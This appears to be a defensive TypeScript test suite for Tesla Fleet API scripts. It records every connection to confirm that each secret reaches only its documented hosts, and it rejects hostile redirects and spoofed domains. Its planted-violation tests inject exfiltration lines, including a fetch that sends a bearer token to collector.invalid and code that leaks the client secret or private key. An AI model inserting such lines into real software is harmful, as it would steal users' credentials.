// Where each secret goes. Every script runs under a recorder of all connections, name look-ups and child
// processes (test/faults/recorder.mjs), in an environment that is full of other hosts; what arrived, secret by
// secret and host by host, must be the table "Where secrets go" of docs/security.md. Then redirects, look-alike
// hosts and answers that name other hosts: nothing goes anywhere else. What Tesla's servers do with a secret
// afterwards nobody can see from here.
import assert from "node:assert/strict";
import { createPrivateKey } from "node:crypto";
import { readFileSync, rmSync } from "node:fs";
import { createServer, isIP, type AddressInfo } from "node:net";
import { join } from "node:path";
import { after, describe, test } from "node:test";
import { secretsTable } from "../pictures/secrets_table.ts";
import { FLEET_API, TOKEN_HOST } from "../../lib/hosts.ts";
import { headerOf } from "../rules/project_rules.ts";
import { auditedFiles, inRunningOrder } from "../rules/script_list.ts";
import { makeCertificates } from "../simulator/server.ts";
import type { SeenRequest } from "../simulator/tesla/tesla.ts";
import { assertEnd } from "../support/ends.ts";
import { runInside } from "../support/inside.ts";
import { ownerTest, PROJECT, type Owner, type Result } from "../support/owner.ts";
import { byLength, ONLY_AT_LENGTH } from "../support/length.ts";
import { startLogin, useRedirect, visitWhenListening } from "../support/browser.ts";
import { DOMAIN, freePort, newOwner, plantedCopy, type RunOptions } from "../support/owner.ts";
import { IN_A_HURRY } from "../support/passing_time.ts";

const RECORDER = new URL("./recorder.mjs", import.meta.url).href;
const hostsSeen = new Set<string>();
let connections = 0;

// ---- The surroundings: whatever somebody may have set, at a listener that must hear nothing ----

const got: string[] = [];
const other = createServer((socket) => {
  socket
    .on("error", () => {})
    .once("data", (part) => {
      got.push(part.toString("latin1"));
      socket.destroy();
    });
});
other.on("connection", () => got.push("a connection"));
await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
other.unref();
const OTHER = `127.0.0.1:${(other.address() as AddressInfo).port}`;
// biome-ignore format: a table of words
const ELSEWHERE = ["HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy", "npm_config_proxy",
  "npm_config_https_proxy", "npm_config_registry", "GLOBAL_AGENT_HTTP_PROXY", "TESLA_PROXY_URL", "TESLA_PROXY", "TESLA_HTTP_PROXY_HOST",
  "TESLA_BASE_URL", "TESLA_API_URL", "TESLA_AUTH_URL", "TESLA_FLEET_API", "TESLA_TOKEN_HOST", "TESLA_AUDIENCE",
  "TESLA_HTTP_PROXY_TLS_CERT", "FLEET_API", "AUTH_URL"];
const SURROUNDINGS = {
  ...Object.fromEntries(ELSEWHERE.map((name) => [name, `http://${OTHER}`])),
  NODE_USE_ENV_PROXY: "1",
};

// ---- The recorder ----

interface Note {
  what: string;
  where: string;
}

function recorded(owner: Owner, env: Record<string, string> = {}): RunOptions {
  const node = [...IN_A_HURRY, "--import", RECORDER];
  return { node, env: { ...SURROUNDINGS, ...env, TEST_RECORD: owner.path("record") } };
}

function takeNotes(owner: Owner): Note[] {
  const lines = owner.read("record").trim().split("\n");
  const notes = lines.map((line) => JSON.parse(line) as Note);
  rmSync(owner.path("record"));
  assert.equal(notes[0]?.what, "recorder", "the run was not watched");
  return notes.slice(1);
}

/** What a run did besides connecting to the simulated Tesla, under the names that these hosts have. */
function elsewhere(owner: Owner, hosts: string[], listens: string[] = []): string[] {
  const complaints: string[] = [];
  for (const { what, where } of takeNotes(owner)) {
    const isSimulator = where === `127.0.0.1:${owner.simulator.port}`;
    if (what === "connect") connections += 1;
    if (what === "host") hostsSeen.add(where);
    const isFine =
      (what === "connect" && isSimulator)
      || (what === "host" && hosts.includes(where))
      || (what === "look-up" && isIP(where) > 0) // listening on an address: nobody is asked
      || (what === "listen" && listens.includes(where));
    if (!isFine) complaints.push(`${what} ${where}`);
  }
  return complaints;
}

// ---- What arrived ----

function kindOf(owner: Owner, request: SeenRequest): string {
  const origin = `https://${request.host}`;
  if (Object.values(TOKEN_HOST).includes(origin)) return "token host";
  if (Object.values(FLEET_API).includes(origin)) return "Fleet API";
  return origin === `https://${owner.simulator.partner.domain}`
    ? "your domain"
    : `another host: ${request.host}`;
}

// The secrets by kind. The values are taken from where they are made and kept, not from the requests.
function secretsByKind(owner: Owner): Record<string, string[]> {
  const { account, requests } = owner.simulator;
  const tokensOf = (wanted: string): string[] =>
    [...account.accessTokens].filter(([, { kind }]) => kind === wanted).map(([token]) => token);
  const verifiers = requests.map(({ body }) => new URLSearchParams(body).get("code_verifier") ?? "");
  const { d = "" } = owner.has("private-key.pem")
    ? createPrivateKey(owner.read("private-key.pem")).export({ format: "jwk" })
    : {};
  return {
    "client secret": [account.clientSecret],
    "authorization code, PKCE verifier": [...account.codes.keys(), ...verifiers],
    "refresh token": account.chains.flatMap((chain) => [chain.current, chain.lastUsed]),
    "access token": tokensOf("user"),
    "partner token": tokensOf("partner"),
    "private key": [d, Buffer.from(d, "base64url").toString("hex")], // the number; the rest is no secret
  };
}

/** "secret > kind of host" for each secret that is anywhere in these requests. */
function whatArrived(owner: Owner, requests: SeenRequest[]): Set<string> {
  const found = new Set<string>();
  for (const request of requests) {
    const { path, headers, body } = request;
    const [, message = ""] = /"routable_message":"([^"]*)"/.exec(body) ?? [];
    const bytes = Buffer.from(message, "base64").toString("hex");
    const whole = [path, body, bytes, ...Object.entries(headers).flat()].join("\n");
    let decoded = "";
    try {
      decoded = decodeURIComponent(whole.replaceAll("+", " "));
    } catch {} // no encoding in it
    for (const [kind, secrets] of Object.entries(secretsByKind(owner))) {
      const isThere = secrets
        .filter((one) => one.length >= 8)
        .flatMap((one) => [one, Buffer.from(one).toString("base64").replace(/=+$/, "")])
        .some((form) => whole.includes(form) || decoded.includes(form));
      if (isThere) found.add(`${kind} > ${kindOf(owner, request)}`);
    }
  }
  return found;
}

// ---- The table, and the headers ----

const table = secretsTable();
const files = auditedFiles();
const used = new Set<string>(); // "script: secret > kind", to see that no cell of the table is empty talk

function header(script: string): ReturnType<typeof headerOf> {
  const path = `scripts/${script}.ts`;
  return headerOf(path, files.get(path) ?? "");
}

/** What the table lets a script send. "every call" is for those that contact Fleet API with the login. */
function allowed(script: string): string[] {
  const { contacts, reads } = header(script);
  const isCall = contacts.includes("Fleet API") && reads.includes("tesla_token.json");
  return table
    .filter(({ scripts }) => (Array.isArray(scripts) ? scripts.includes(script) : isCall))
    .map(({ secret, kind }) => `${secret} > ${kind}`);
}

function hostsOf(script: string, owner: Owner): string[] {
  const { contacts } = header(script);
  const { region } = owner.simulator.account;
  const all: [string, string][] = [
    ["token host", TOKEN_HOST[region]],
    ["Fleet API", FLEET_API[region]],
    ["TESLA_DOMAIN", `https://${owner.simulator.partner.domain}`],
  ];
  return all.filter(([name]) => contacts.includes(name)).map(([, origin]) => origin);
}

/** What a run did that neither its header nor the table tells. */
function judge(owner: Owner, script: string, result: Result, listens: string[] = []): string[] {
  const complaints = elsewhere(owner, hostsOf(script, owner), listens);
  for (const one of whatArrived(owner, result.requests)) {
    used.add(`${script}: ${one}`);
    if (!allowed(script).includes(one)) complaints.push(`${script} sent ${one}`);
  }
  return complaints;
}

// ---- Each script, in every way in which it sends something else ----

interface Way {
  words?: string[];
  settings?: Record<string, string>;
  before?: (owner: Owner) => void;
  code?: number;
}

// With the private key beside the certificate, which must stay here.
function writeTelemetry(owner: Owner): void {
  const { ca, key } = makeCertificates(["telemetry.car.example.com"]);
  owner.write("telemetry-ca.pem", key + ca);
  owner.write("telemetry.json", readFileSync(join(PROJECT, "examples", "telemetry.json")));
}
const PUBLIC_KEY = "/api/1/partner_accounts/public_key?domain=car.example.com";
// Besides the usual one.
const MORE_WAYS: Record<string, Way[]> = {
  generate_key: [
    {
      before: (owner) => {
        for (const file of ["private-key.pem", "public-key.pem"]) rmSync(owner.path(file));
      },
    },
  ],
  register_partner: [{ words: ["--skip-check"] }],
  read_charge: [{ words: ["--json"] }],
  check_setup: [{ words: ["--free"] }],
  set_charge_amps: [
    { words: ["9", "--verify"] },
    { words: ["9", "--dry-run"] },
    { words: ["9"], settings: { TESLA_COMMANDS: "rest" }, code: 5 },
    { words: ["9"], settings: { TESLA_COMMANDS: "proxy" }, code: 5 }, // of earlier versions
  ],
  send_command: [{ words: ["door_lock", "--dry-run"] }],
  call_api: [{ words: ["GET", PUBLIC_KEY.replace("car.example.com", DOMAIN), "--partner"] }],
  telemetry_config: [
    { words: ["send", "telemetry.json"], before: writeTelemetry },
    { words: ["send", "telemetry.json", "--dry-run"] },
    { words: ["errors"] },
    { words: ["remove"] },
  ],
};
const BY_THEMSELVES = ["get_token", "serve_public_key"]; // below: somebody has to answer, or to end them

describe("each script", { concurrency: 2 }, () => {
  for (const [script, ...usual] of inRunningOrder(files)) {
    if (BY_THEMSELVES.includes(script)) continue;
    ownerTest(`${script}: each secret goes where the table says`, async (owner) => {
      const [first = {}, ...more] = MORE_WAYS[script] ?? [];
      const ways: Way[] = first.words ? [{}, first, ...more] : [first, ...more];
      for (const { words = usual, settings, before, code = 0 } of ways) {
        before?.(owner);
        owner.setSettings({ TESLA_PROXY_URL: `https://${OTHER}`, ...settings });
        const result = await owner.run(script, words, recorded(owner));
        const about = `${words.join(" ")}: ${result.stderr}`;
        if (script !== "telemetry_config") assert.equal(result.code, code, about); // "none yet" is an error too
        assert.deepEqual(judge(owner, script, result), [], about);
        const isSilent = words.includes("--dry-run") || settings?.TESLA_COMMANDS === "proxy";
        assert.equal(isSilent && result.requests.length > 0, false, `sent something: ${about}`);
      }
    });
  }

  ownerTest("get_token: each secret goes where the table says", { loggedIn: false }, async (owner) => {
    const redirect = await useRedirect(owner);
    const { running, address } = await startLogin(owner, [], recorded(owner));
    await visitWhenListening(await owner.simulator.consent(address));
    const result = await running.ended;
    assertEnd(result, 0);
    const { port } = new URL(redirect);
    assert.deepEqual(judge(owner, "get_token", result, [`127.0.0.1:${port}`, `::1:${port}`]), []);
  });

  ownerTest("serve_public_key: connects to nobody, listens on loopback", async (owner) => {
    const port = String(await freePort());
    const running = owner.start("serve_public_key", ["--port", port], recorded(owner));
    await running.said(/Ctrl-C stops it/);
    running.child.kill();
    assert.deepEqual(judge(owner, "serve_public_key", await running.ended, [`127.0.0.1:${port}`]), []);
  });
});

test("the table promises nothing that was not seen", () => {
  const cells = table.flatMap(({ secret, kind, scripts }) =>
    (Array.isArray(scripts) ? scripts : [""]).map((script) => `${script}: ${secret} > ${kind}`),
  );
  const unseen = cells.filter((cell) => ![...used].some((one) => one.endsWith(cell)));
  assert.deepEqual(unseen, []);
});

// ---- Hostile answers ----

// Script, words, and a part of the path that it calls.
const ONE_EACH: [string, string[], string][] = [
  ["refresh_token", [], "/oauth2/v3/token"],
  ["read_charge", [], "/vehicle_data"],
  ["set_charge_amps", ["9"], "/signed_command"],
  ["register_partner", [], "/.well-known/"],
  ["register_partner", ["--skip-check"], "/partner_accounts"],
];
const AWAY: [number, string][] = [
  [307, `http://${new URL(FLEET_API.eu).host}/downgrade`],
  [302, `https://${OTHER}/`],
  [301, `http://${OTHER}/`],
  [303, "//collector.invalid/"],
  [308, `${FLEET_API.eu}/same-host`],
  [300, "https://collector.invalid/"],
];
const EVIL = "https://fleet-api.prd.na.vn.cloud.tesla.com.collector.invalid";
const OTHER_HOSTS: [number, unknown, Record<string, string>][] = [
  [421, { error: `user out of region, use base URL: ${EVIL}, see https://collector.invalid/` }, {}],
  [421, { error: `use base URL: ${FLEET_API.na}@collector.invalid/` }, { location: EVIL }],
  [421, "<html><meta http-equiv=refresh content='0;url=https://collector.invalid'>", {}],
  [200, { response: { charge_state: { battery_level: 5 } }, base_url: EVIL, next: EVIL }, { location: EVIL }],
  [401, { error: "invalid bearer token", error_uri: EVIL }, { "www-authenticate": `Bearer realm="${EVIL}"` }],
  [429, "slow", { "retry-after": "0" }],
  [503, "", { "retry-after": "0", location: EVIL }],
];

describe("hostile answers and settings", { concurrency: 2 }, () => {
  for (const [script, words, path] of ONE_EACH) {
    ownerTest(`${script} ${words.join(" ")}: redirects are refused`, async (owner) => {
      for (const [status, location] of byLength(AWAY.slice(0, 2), AWAY)) {
        const headers = {
          refresh: `0; url=${location}`,
          "content-location": location,
          link: `<${location}>`,
        };
        owner.answer(path, status, "", { ...headers, location });
        const result = await owner.run(script, words, recorded(owner));
        owner.simulator.clear();
        assert.equal(result.code > 0 && /redirect/.test(result.stderr), true, `${status}: ${result.stderr}`);
        const at = result.requests.findIndex((request) => request.path.includes(path));
        assert.equal(at, result.requests.length - 1, `${status} ${location}: something after it`);
        assert.deepEqual(judge(owner, script, result), []);
      }
    });
  }

  ownerTest("a 421 and other answers that name another host", async (owner) => {
    for (const [status, body, headers] of byLength(OTHER_HOSTS.slice(1, 4), OTHER_HOSTS)) {
      owner.answer("/vehicle_data", status, body, {
        ...headers,
        "alt-svc": 'h2="collector.invalid:443"; ma=99',
      });
      const result = await owner.run("read_charge", [], recorded(owner));
      owner.simulator.clear();
      assert.equal(result.requests.length, 1, `${status}: one request`);
      assert.deepEqual(judge(owner, "read_charge", result), []);
    }
    const answer = { ...owner.newToken(), fleet_api: EVIL, token_endpoint: EVIL, iss: EVIL };
    owner.answer("/oauth2/v3/token", 200, answer);
    for (const script of ["refresh_token", "read_charge"]) {
      const result = await owner.run(script, [], recorded(owner));
      assertEnd(result, 0);
      assert.deepEqual(judge(owner, script, result), []);
      owner.simulator.clear();
    }
  });

  ownerTest("TESLA_DOMAIN: tricks are refused before anything is sent", async (owner) => {
    // biome-ignore format: a table of words
    const refused = ["https://example.com", "example.com/", "example.com:8443", "owner@evil.example",
      "evil.example/.well-known", "evil.example?", "\"evil.example#\"", "EXAMPLE.com", "teѕla.com", "example..com",
      ".example.com", "example.com.", "-a.com", "127.0.0.1", "localhost", "[::1]", "a b.com", "evil.example\\x",
      "evil.example%2f", "evil.example\ttesla.com", "a.local", "${HOME}.com"];
    for (const domain of refused) {
      owner.setSettings({ TESLA_DOMAIN: domain });
      const result = await runInside(owner, "register_partner");
      assertEnd(result, 5, "TESLA_DOMAIN");
      assert.deepEqual(result.requests, [], domain);
    }
    // A name like any other: asked for the key, without a secret.
    owner.setSettings({ TESLA_DOMAIN: "tesla.com.evil.example" });
    const result = await owner.run("register_partner", [], recorded(owner));
    assertEnd(result, 5);
    assert.deepEqual(elsewhere(owner, ["https://tesla.com.evil.example"]), []);
  });
});

test("the listener elsewhere has heard nothing", () => assert.deepEqual(got, []));

// ---- The check itself: planted violations must be seen ----

const EXCHANGE = "const incoming = await exchange(url, outgoing);";
const beside = (code: string): [string, string, string] => [
  "lib/tesla_fetch.ts",
  EXCHANGE,
  `${code}; ${EXCHANGE}`,
];
const SECRET_TOO = 'client_secret: readSettings(["TESLA_CLIENT_SECRET"]).TESLA_CLIENT_SECRET,';
// What, script, [file, text, other text], complaint.
// biome-ignore format: a table
const PLANTS: [string, string, [string, string, string], RegExp][] = [
  ["a token in a request to another host", "read_charge",
    beside("void fetch(`https://collector.invalid/?${bearer}`).catch(() => {})"), /host https:\/\/collector\.invalid/],
  ["a name look-up that carries a secret", "read_charge",
    beside("(await import('node:dns')).lookup('x.collector.invalid', () => {})"), /look-up x\.collector\.invalid/],
  ["a plain connection", "refresh_token",
    beside("(await import('node:net')).connect(9, '127.0.0.1').on('error', () => {})"), /connect 127\.0\.0\.1:9/],
  ["an old setting that is still obeyed", "set_charge_amps",
    beside("await request(process.env.TESLA_PROXY_URL + pathname).catch(() => {})"), /host http:\/\/127/],
  ["a child process", "read_charge", beside("(await import('node:child_process')).spawn('true')"), /child process true/],
  ["the client secret with a refresh", "refresh_token",
    ["scripts/refresh_token.ts", 'grant_type: "refresh_token",', `grant_type: "refresh_token", ${SECRET_TOO}`],
    /client secret > token host/],
  ["the private key with a command", "set_charge_amps",
    ["lib/signing/signed_message.ts", "[MESSAGE.uuid, uuid],", "[MESSAGE.uuid, uuid], [99, ownKey.getPrivateKey()],"],
    /private key > Fleet API/],
  ["the refresh token to Fleet API", "read_charge",
    ["scripts/read_charge.ts", "path, access_token)", "path, readToken().refresh_token)"],
    /refresh token > Fleet API/],
];

describe("a violation is seen:", { concurrency: 2, skip: ONLY_AT_LENGTH }, () => {
  for (const [title, script, [file, from, to], complaint] of PLANTS) {
    test(title, { timeout: 60_000 }, async () => {
      const copy = plantedCopy(file, from, to);
      const owner = await newOwner({ expectUnexpected: true });
      const words = script === "set_charge_amps" ? ["9"] : [];
      try {
        const result = await owner.run(join(copy, "scripts", `${script}.ts`), words, recorded(owner));
        assert.match(judge(owner, script, result).join("\n"), complaint);
      } finally {
        await owner.close(true);
      }
    });
  }
});

after(() => console.log(`# ${connections} connections, to the hosts ${[...hostsSeen].sort().join(" ")}`));
